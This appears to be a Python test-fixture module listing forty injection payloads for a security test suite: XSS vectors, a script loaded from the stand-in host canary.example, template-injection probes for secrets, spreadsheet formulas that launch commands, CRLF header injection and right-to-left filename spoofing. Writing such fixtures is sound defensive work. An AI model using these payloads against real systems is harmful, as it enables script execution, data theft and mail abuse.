"""Forty texts that somebody might type to reach whoever reads them: a browser, a mail program, a spreadsheet, a parser.

Each would leave a trace that tests/security/watching.py knows: a script calls `canaryRan`, an element has the class
`canary`, an address leads to CANARY_HOST.
"""

from typing import Final

#: Where nobody lives; whoever asks for it was led there by one of these.
CANARY_HOST: Final = "canary.example"
_URL = f"https://{CANARY_HOST}/x"
_RUN = "canaryRan()"

PAYLOADS: Final[dict[str, str]] = {
    # Links and markup
    "name as link": f"Your account is locked, see {_URL}",
    "bare host": f"www.{CANARY_HOST}/x mail@{CANARY_HOST}",
    "html link": f'<a class=canary href="{_URL}">click</a>',
    "html bold": "<b class=canary>bold</b>",
    "script": f"<script class=canary>{_RUN}</script>",
    "script of another site": f'"><script class=canary src="{_URL}.js"></script>',
    "image": f"<img class=canary src=x onerror={_RUN}>",
    "image, attribute closed": f"\"'><img class=canary src=x onerror='{_RUN}'>",
    "svg": f"<svg class=canary onload={_RUN}><circle r=9 /></svg>",
    "svg, nested": f"<svg><animate class=canary onbegin={_RUN} attributeName=x dur=1s></svg>",
    "frame": f'<iframe class=canary src="javascript:{_RUN}"></iframe>',
    "form": f'<form class=canary action="{_URL}"><button class=canary>Go</button></form>',
    "style": f"<style class=canary>body{{background:url({_URL})}}</style>",
    "base and meta": f'<base class=canary href="{_URL}"><meta class=canary http-equiv=refresh content="0;url={_URL}">',
    "attribute": f'" autofocus onfocus="{_RUN}" class="canary" x="',
    "attribute, single": f"' autofocus onfocus='{_RUN}' class='canary' x='",
    "text area closed": f"</textarea></title></script><img class=canary src=x onerror={_RUN}>",
    "comment and cdata": f"--><!--><![CDATA[<img class=canary src=x onerror={_RUN}>]]>",
    "mutation": f'<noscript><p title="</noscript><img class=canary src=x onerror={_RUN}>">',
    "entities": f"&lt;img class=canary src=x onerror={_RUN}&gt; &#60;b class=canary&#62;",
    "twice encoded": f"%3Cimg%20class=canary%20src=x%20onerror={_RUN}%3E %253Cb%253E",
    # Addresses
    "javascript address": f"javascript:{_RUN}//https://",
    "javascript, disguised": f"jAvA\tscript:&colon;{_RUN}",
    "data address": f"data:text/html,<script class=canary>{_RUN}</script>",
    # Markdown
    "markdown link": f"[click](javascript:{_RUN}) <javascript:{_RUN}> [x]: javascript:{_RUN}",
    "markdown image": f"![x](data:image/svg+xml,<svg onload={_RUN}>) ![x]({_URL}.png) ![y](/static/../admin/logout/)",
    "markdown html": f"```html\n<img class=canary src=x onerror={_RUN}>\n```\n\n<b class=canary>x</b>",
    # Templates and formats
    "django template": '{{ settings.SECRET_KEY }}{% include "base.html" %}{% debug %}',
    "jinja template": "{{ ''.__class__.__mro__[1].__subclasses__() }}${7*7}#{7*7}<%= 7*7 %>",
    "format string": "{0.__class__.__init__.__globals__} {self.__dict__} %(x)s %s %n %d",
    # Spreadsheets
    "formula": '=HYPERLINK("https://canary.example/x";"click")',
    "formula, other starts": "@SUM(1+1)*cmd|' /C calc'!A0",
    "formula, plus and full-width": "+1+1 ＝1+1 －2 ＠SUM(1)",
    "formula, full-width first": "＝cmd|' /C calc'!A0",
    # Characters
    "header break": f"Anna\r\nBcc: spam@{CANARY_HOST}\r\n\r\n<b class=canary>x</b>",
    "calendar break": f"Anna\nEND:VEVENT\nBEGIN:VEVENT\nURL:{_URL};X=1,2\\n",
    "separators": "Anna\u2028Bcc: x@canary.example\u2029\u0085\u000bBerzina \ufffe",
    "right to left": "Anna \u202egnp.exe\u202c \u2066\u2067abc \u200f\u200eend\u202e",
    "long": "x" * 5000,
    "marks upon marks": "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d" * 60
    + "\U0001f468\u200d\U0001f469\u200d\U0001f467" * 20,
}
NAMES: Final = tuple(PAYLOADS)
TEXTS: Final = tuple(PAYLOADS.values())
